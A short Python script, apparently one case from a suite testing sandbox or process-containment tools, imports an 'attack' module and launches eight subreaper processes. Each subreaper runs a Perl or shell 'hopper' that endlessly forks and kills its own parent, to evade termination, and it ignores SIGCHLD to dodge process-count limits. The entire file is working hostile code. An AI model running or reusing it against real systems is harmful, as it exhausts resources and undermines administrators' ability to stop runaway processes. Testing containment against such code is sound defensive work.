import ctypes
import os
import shutil
import signal

from attack import *

PR_SET_CHILD_SUBREAPER = 36
hopper = [shutil.which("perl"), "-e", "while (1) { if (fork()) { kill 9, $$ } }"]
shell = ["/bin/sh", "-c", "f() { (f) & exit 0; }; f"]
for _ in range(8):
    if not os.fork():
        libc.prctl(PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0)
        signal.signal(signal.SIGCHLD, signal.SIG_IGN)  # so that no zombie counts against the limit of processes
        if not os.fork():
            os.execv(*((hopper[0], hopper) if hopper[0] else (shell[0], shell)))
        while True:
            signal.pause()
